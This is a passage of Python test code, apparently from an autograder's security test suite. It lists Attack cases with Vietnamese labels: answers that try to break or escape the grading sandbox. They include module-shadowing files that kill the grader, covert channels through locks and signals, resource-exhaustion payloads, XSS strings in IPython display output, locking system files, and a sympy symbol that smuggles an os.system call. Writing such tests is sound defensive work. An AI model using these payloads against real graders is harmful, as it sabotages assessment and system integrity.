           "    send = end.stream.send\n    def bad(tree, buffers=()):\n        for value in (['i', 'zz'], ['N', 'class', ['def'], 1], ['a', '<f8', [1 << 39], 0, 0], ['S', ['n', 'Pow', ['i', '0x7'], ['i', hex(10**9)]]], ['nt', 'x'], ['Ie', 'x', 'y'], ['D', 'defaultdict eval'], ['^', 0], ['m', 0], ['R', 0, 10**15, 1]):\n"
           "            t = list(tree)\n            t[3] = value\n        send(t, buffers)\n    end.stream.send = bad\n    return 0"),
    Attack("để lại cho lần chạy sau", KEEP + "def double(x):\n    keep(x)\n    return 0", first=KEEP + "print(kept())", last="print(kept())",
           total="def total(values):\n    raise RuntimeError(kept())"),
    # odd answers
    Attack("khóa băm trùng nhau", "def double(x):\n    return {k * (2**61 - 1): 0 for k in range(20000)}"),
    Attack("khoảng khổng lồ", "def double(x):\n    return range(10**18)"),
    Attack("NaN, vô hạn và không âm", "def double(x):\n    return [float('nan'), float('inf'), -0.0][x % 3]"),
    Attack("số phức và kiểu lạ", "import fractions, decimal, numpy as np\ndef double(x):\n    return [complex(6), np.complex128(6), fractions.Fraction(13, 2), decimal.Decimal('NaN'), True][x % 5]"),
    Attack("mảng đối tượng", "import numpy as np\nclass Y:\n    __eq__ = __lt__ = __gt__ = __sub__ = __abs__ = __float__ = lambda s, *a: True\n    __hash__ = None\ndef double(x):\n    return np.array([Y(), 6], object)"),
    Attack("lũy thừa sympy khổng lồ", "import sympy\ndef double(x):\n    return sympy.Pow(7, 10**9, evaluate=False) + sympy.factorial(10**8, evaluate=False)"),
    Attack("biểu thức sympy lồng sâu", "import sympy\ndef double(x):\n    y = sympy.Symbol('y')\n    for _ in range(5000): y = sympy.sin(y, evaluate=False)\n    return y"),
    Attack("bộ lặp vô tận", "import itertools\ndef double(x):\n    return itertools.count()"),
    Attack("hàm trả về hàm trả về hàm", "def double(x):\n    f = lambda *a: f\n    return f"),
    Attack("nghìn hình", WRONG, first="import matplotlib.pyplot as plt\nfor i in range(60):\n    plt.figure(figsize=(30, 30)); plt.plot([i]); plt.show()"),
    Attack("tệp như mô-đun và như cấu hình", "import numpy, matplotlib, torch\n" + WRONG,
           files={"numpy/__init__.py": "raise SystemExit", "autograder/__init__.py": "raise SystemExit", "autograder/engine/examiner.py": "raise SystemExit",
                  "x.pth": "import os; os._exit(1)", "conftest.py": "raise SystemExit", "usercustomize.py": "raise SystemExit", "matplotlibrc": "backend: x",
                  "pyvenv.cfg": "home = /", "ipython_config.py": "raise SystemExit", "pytest.ini": "[pytest]", "linecache.py": "raise SystemExit"}),
    Attack("liên kết trong HTML", WRONG, first="from IPython.display import HTML, Latex, Markdown, SVG, display\n"
           "for t in ('<a href=\"&#106;avascript:alert(1)\">x</a>', '<table background=\"//h\"><tr><td>', '<img src=//h>', '<video poster=//h>', '<p style=\"background:u&#114;l(//h)\">', '<svg/onload=alert(1)>', '<p', '<!--'):\n"
           "    display(HTML(t))\ndisplay(Latex('\\\\href{javascript:alert(1)}{x}'), Markdown('![x](http://h) <img src=//h>'))\n"
           "display({'image/svg+xml': '<svg><image href=\"http://h\"/><a href=\"http://h\">x</a></svg>'}, raw=True)"),
    # from the process that has heard to one that has not, past the files
    Attack("để lại thời điểm của thiết bị", TOUCH + LATER, last=TOLD_LATER),
    Attack("để lại trang nhớ của tệp chung", CACHED + LATER, last=TOLD_LATER),
    Attack("để lại tín hiệu ở ống vào", SIGNAL + "def put(n): fcntl.fcntl(0, 10, 10)\ndef got(): return marked(0)\n" + LATER, last=TOLD_LATER),
    Attack("để lại tín hiệu ở ống ra rồi chết", SIGNAL + "FOUND = marked(pipe())\ndef put(n):\n    fcntl.fcntl(pipe(), 10, 10)\n    os._exit(1)\n" + LATER,
           total="def total(v):\n    print(FOUND)\n    raise RuntimeError"),
    Attack("trạng thái ngẫu nhiên không ai hỏi", ZEROS),
    # what keeps the worker itself busy, for which there is no limit of time
    Attack("dấu cách trong thẻ HTML", WRONG, first="from IPython.display import HTML, SVG, display\n"
           "display(HTML('<' + ' ' * 400000 + 'b>'))\ndisplay({'image/svg+xml': '<svg>' + '< / ' * 100000 + '</svg>'}, raw=True)"),
    Attack("một chữ dài trong Markdown", WRONG, first="from IPython.display import Latex, Markdown, display\n"
           "display(Markdown('a' * 400000))\ndisplay(Markdown(']' * 200000 + ' ' * 200000), Latex('\\\\' * 200000))"),
    Attack("ký tự có nghìn chữ số", WRONG, first="from IPython.display import HTML, display\ndisplay(HTML('<b>&#' + '9' * 6000 + ';</b>'), HTML('<p title=\"&#x' + 'f' * 6000 + ';\">'))"),
    Attack("nghìn phép thuật trong một ô dài", WRONG, first="%time 1\n" * 300 + "x = 1\n" * 32000),
    Attack("kích thước không phải số", FIRST_CELL + "for size in ('NaN', '-Infinity', '1e999', '-1', '1e300', 'true'):\n"
           "    os.write(end.outputs, b'[1, [{\"output_type\": \"display_data\", \"data\": {\"image/png\": \"aGk=\"}, \"metadata\": {\"image/png\": {\"width\": %s}}}], {\"status\": \"ok\"}]\\n' % size.encode())\n" + WRONG),
    # of the system
    Attack("họ socket khác", "import socket\nfor family in set(range(46)) - {1, 2, 10, 16}:\n    for kind in (1, 2, 3, 5):\n"
           "        try: socket.socket(family, kind)\n        except OSError: continue\n        print('NỐI-ĐƯỢC')\n" + WRONG),
    Attack("tự giết bằng giới hạn CPU", "import resource, signal\ndef double(x):\n    if x == 3: return 0\n    resource.setrlimit(resource.RLIMIT_CPU, (1, 1))\n    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n    while True: pass"),
    Attack("khóa tệp chung rồi bỏ đi", "import ctypes, fcntl, glob, os\nctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\nLOCKED = []\n"
           "for path in ['/dev/null', '/usr/bin/env', os.__file__, *glob.glob(os.path.dirname(os.__file__) + '/*.py')[:150]]:\n"
           "    try:\n        LOCKED.append(os.open(path, os.O_RDONLY))\n        fcntl.flock(LOCKED[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)\n    except OSError: pass\n"
           "if os.fork() == 0:\n    import time\n    os.setsid()\n    time.sleep(600)\n" + WRONG),
    # of what crosses
    Attack("ký hiệu có tên là mã", "import sympy\ndef double(x):\n    code = \"__import__('os').system('touch @CLASS@/x')\"\n"
           "    if x == 3: return sympy.Symbol(code)\n    return sympy.Function('exec')(sympy.Function('bytes')(sympy.Tuple(*code.encode())))"),
    Attack("kích thước không tốn chỗ", "import numpy as np, torch\nMADE = [np.broadcast_to(np.zeros(1), 10**9), np.lib.stride_tricks.as_strided(np.zeros(1), (1 << 20, 1 << 20), (0, 0)),\n"
           "        np.zeros((0, 1 << 39)), torch.zeros(1).expand(1 << 40), torch.sparse_coo_tensor([[0]], [6.], (1 << 40,))]\ndef double(x):\n    return MADE.pop()",
           total="def total(v):\n    return MADE.pop()"),
    Attack("nửa ký tự ở mọi nơi", "print('\\ud800 \\x00')\ndef double(x):\n    raise type('=1+1\\ud800', (ValueError,), {})('\\udfff\\x00\\x1b[2J=1+1')",
           total="def total(v):\n    return '\\ud800' * 100", first="'\\udc00'", last="raise KeyError('\\ud800')"),
)  # fmt: skip
